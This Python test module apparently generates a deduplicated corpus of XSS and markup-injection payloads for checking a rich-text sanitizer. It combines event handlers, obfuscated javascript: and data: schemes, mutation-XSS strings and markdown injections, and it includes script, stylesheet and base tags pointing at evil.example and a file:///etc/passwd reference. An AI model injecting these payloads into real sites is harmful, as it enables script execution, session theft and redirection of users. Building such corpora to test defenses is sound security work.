"""Hostile texts of our own making, for every place that takes rich text (security.md T5)."""

from __future__ import annotations

from itertools import product

CALL = "alert(1)"
HANDLERS = (
    "onclick",
    "onerror",
    "onload",
    "onfocus",
    "onmouseover",
    "ontoggle",
    "onanimationstart",
    "onpointerenter",
    "ONCLICK",
)
BEARERS = ("p", "a", "img src=x", "b", "table", "details open", "input autofocus", "svg", "video", "body", "ul", "code")
SCHEMES = (
    "javascript:{0}",
    "JaVaScRiPt:{0}",
    " javascript:{0}",
    "java\tscript:{0}",
    "java\nscript:{0}",
    "\x01javascript:{0}",
    "javascript&colon;{0}",
    "&#106;avascript:{0}",
    "&#x6A;&#x61;vascript:{0}",
    "javascript&#58;{0}",
    "java&Tab;script:{0}",
    "java&NewLine;script:{0}",
    "vbscript:{0}",
    "data:text/html,<script>{0}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload={0}>",
    "file:///etc/passwd",
    "blob:https://school.example/1",
    "view-source:javascript:{0}",
    "jar:http://school.example/x!/y",
)
CARRIERS = (
    '<a href="{0}">x</a>',
    "<a href='{0}'>x</a>",
    '<img src="{0}">',
    '<iframe src="{0}"></iframe>',
    '<form action="{0}"><button>x</button></form>',
    '<svg><a xlink:href="{0}"><text>x</text></a></svg>',
    '<math><maction actiontype="statusline" href="{0}">x</maction></math>',
    '<object data="{0}"></object>',
)
ACTING = """
    hx-get hx-post hx-on:click hx-on::load hx-vals hx-trigger hx-swap-oob hx-boost data-hx-get data-hx-on:click
    data-hx-disable sse-connect ws-connect data-confirm data-copy data-copy-from data-dialog-open data-editor
    data-editor-html data-push-enable data-theme-form data-autosubmit data-bell data-toast-link style class id
    name tabindex contenteditable accesskey role aria-label is slot part nonce formaction ping target download
    srcdoc background poster srcset xml:base dir lang popovertarget
""".split()  # noqa: SIM905
BROKEN = (
    "<script>{0}</script>",
    "<SCRIPT>{0}</SCRIPT>",
    "<script src=//evil.example></script>",
    "<script\n>{0}</script\n>",
    "<scr<script>ipt>{0}</scr</script>ipt>",
    "<<script>{0}//<</script>",
    "<script/x>{0}</script>",
    "<script>{0}",
    "</p><script>{0}</script>",
    "<p title='</p><script>{0}</script>'>x",
    "<style>*{{background:url(javascript:{0})}}</style>",
    "<style><!--</style><img src=x onerror={0}>-->",
    "<svg><style><img src=x onerror={0}></style></svg>",
    '<svg><style><a title="</style><img src=x onerror={0}>">',
    "<svg><script>{0}</script></svg>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:{0}>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={0}>#x'>",
    "<svg><foreignObject><iframe srcdoc='<script>{0}</script>'></foreignObject></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={0}&gt;">',
    "<math><mi><table><mglyph><svg><mtext><style><path id='</style><img src onerror={0}>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={0}>",
    '<noscript><p title="</noscript><img src=x onerror={0}>"></noscript>',
    '<textarea><p title="</textarea><img src=x onerror={0}>">',
    '<title><p title="</title><img src=x onerror={0}>">',
    '<xmp><p title="</xmp><img src=x onerror={0}>">',
    '<noembed><img title="</noembed><img src onerror={0}>"></noembed>',
    '<plaintext><img src=x onerror={0}>',
    "<template><script>{0}</script></template>",
    "<!--><img src=x onerror={0}>-->",
    "<!--[if gte IE 4]><script>{0}</script><![endif]-->",
    "<!-- --!><img src=x onerror={0}> -->",
    "<![CDATA[<script>{0}</script>]]>",
    "<?xml version='1.0'?><script>{0}</script>",
    "<!DOCTYPE x [<!ENTITY y '<script>{0}</script>'>]>&y;",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=//evil.example/x.html>",
    "<embed src=//evil.example/x.swf>",
    "<applet code=X></applet>",
    "<marquee onstart={0}>x</marquee>",
    "<isindex type=image src=x onerror={0}>",
    "<keygen autofocus onfocus={0}>",
    "<audio src=x onerror={0}>",
    "<video><source onerror={0}></video>",
    "<picture><source srcset=x><img onerror={0}></picture>",
    "<dialog open onclose={0}>x</dialog>",
    "<button popovertarget=x onclick={0}>x</button>",
    "<select><option><script>{0}</script></option></select>",
    "<frameset onload={0}></frameset>",
    "<table background=javascript:{0}><td background=javascript:{0}>",
    "<img src=`x` onerror={0}>",
    "<img src=x:x onerror\x0c={0}>",
    "<img/src/onerror={0}>",
    "<img src='x' onerror='{0}'",
    "<a href='x'onclick={0}>x</a>",
    "<p\x00 onclick={0}>x</p>",
    "<\x00script>{0}</script>",
    "<p onclick&#61;{0}>x</p>",
    "&lt;script&gt;{0}&lt;/script&gt;",
    "&amp;lt;script&amp;gt;{0}",
    "<a href=\"https://x.example/?q='><script>{0}</script>\">x</a>",
    '<a title="&quot;><script>{0}</script>" href=/x>x</a>',
    "<custom-element onclick={0}><slot name=x></slot></custom-element>",
    "<h1><script>{0}</script>x</h1><h1 id=x>y</h1>",
    "<input type=hidden name=csrf_token value=stolen>",
    "<div id=announcer></div><form id=forms name=body><input name=attributes></form>",
)  # fmt: skip
MARKDOWN = (
    "[x]({0})",
    "[x](<{0}>)",
    "![x]({0})",
    "<{0}>",
    "[x][y]\n\n[y]: {0}",
    '[x](https://x.example "\\" onclick={0} x=\\"")',
    '[x](https://x.example/"onclick={0})',
    "```<script>{0}</script>\nx\n```",
    '``` x" onclick="{0}\nx\n```',
    "`<script>{0}</script>`",
    "# <img src=x onerror={0}>",
    "| <script>{0}</script> | a |\n|-|-|\n| <b onclick={0}>x | y |",
    "> <iframe src={0}>",
    "- <a href={0}>x</a>",
    "~~<script>{0}</script>~~",
    "\\<script>{0}</script>",
    "&#60;script&#62;{0}",
)


def corpus() -> list[str]:
    """All of them, each once."""
    handlers = (f"<{bearer} {handler}={CALL}>x" for bearer, handler in product(BEARERS, HANDLERS))
    addresses = (carrier.format(scheme.format(CALL)) for carrier, scheme in product(CARRIERS, SCHEMES))
    acting = (f'<p {name}="javascript:{CALL}">x</p><a {name}={CALL} href=/x>y</a>' for name in ACTING)
    broken = (text.format(CALL) for text in BROKEN)
    typed = (text.format(scheme.format(CALL)) for text, scheme in product(MARKDOWN, SCHEMES[:8]))
    return list(dict.fromkeys((*handlers, *addresses, *acting, *broken, *typed)))
